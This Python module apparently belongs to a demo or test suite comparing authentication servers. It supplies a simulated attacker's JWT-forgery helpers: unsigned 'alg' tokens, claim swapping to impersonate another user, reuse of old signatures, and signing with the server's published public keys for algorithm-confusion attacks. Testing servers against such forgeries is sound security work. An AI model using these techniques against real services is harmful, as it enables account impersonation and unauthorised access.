"""The attacker's tools: a token, PyJWT, and no key of the server's."""

import secrets
from functools import cache
from typing import Any

import jwt
from jwt.algorithms import get_default_algorithms
from jwt.utils import base64url_encode

from authcompare.server.keys import KEY_TYPES, public_pem
from tokens_demo.inspector.samples import encoded


def claims(token: str) -> dict[str, Any]:
    """Return a token's claims, unverified: everyone can read them."""
    return jwt.decode(token, options={"verify_signature": False})


def algorithm(token: str) -> str:
    """Return the algorithm that the token's header names."""
    return jwt.get_unverified_header(token)["alg"]


def claims_naming(token: str, user: dict[str, Any]) -> dict[str, Any]:
    """Return the token's claims, with another user's id and name wherever it contains its own user's."""
    original = claims(token)
    names = {"sub": str(user["id"]), "username": user["username"]}
    return original | {claim: name for claim, name in names.items() if claim in original}


def signed(payload: dict[str, Any], alg: str, key: Any, **header: Any) -> str:
    """Return a token with these claims, signed with `key`.

    `jwt.encode` refuses a short word or a public key as a secret, which is what an attacker uses.
    """
    message = f"{encoded({'alg': alg, 'typ': 'JWT', **header})}.{encoded(payload)}"
    signature = get_default_algorithms()[alg].sign(message.encode(), key)
    return f"{message}.{base64url_encode(signature).decode()}"


def unsigned(payload: dict[str, Any], alg: str) -> str:
    """Return a token with these claims and an empty signature."""
    return f"{encoded({'alg': alg, 'typ': 'JWT'})}.{encoded(payload)}."


def with_claims(token: str, **changes: Any) -> str:
    """Return a token with changed claims under its old signature."""
    header, _payload, signature = token.split(".")
    return f"{header}.{encoded(claims(token) | changes)}.{signature}"


@cache
def own_key(alg: str) -> Any:
    """Return a key of the attacker's own, of the kind that this algorithm takes."""
    return KEY_TYPES[alg].generate() if alg in KEY_TYPES else secrets.token_bytes(32)


def published_keys(actors: Any) -> list[bytes]:
    """Return the server's public keys as PEM, from its JWK set."""
    with actors.client() as client:
        keys = client.get("/.well-known/jwks.json").raise_for_status().json()["keys"]
    return [public_pem(jwt.PyJWK(key).key).encode() for key in keys]
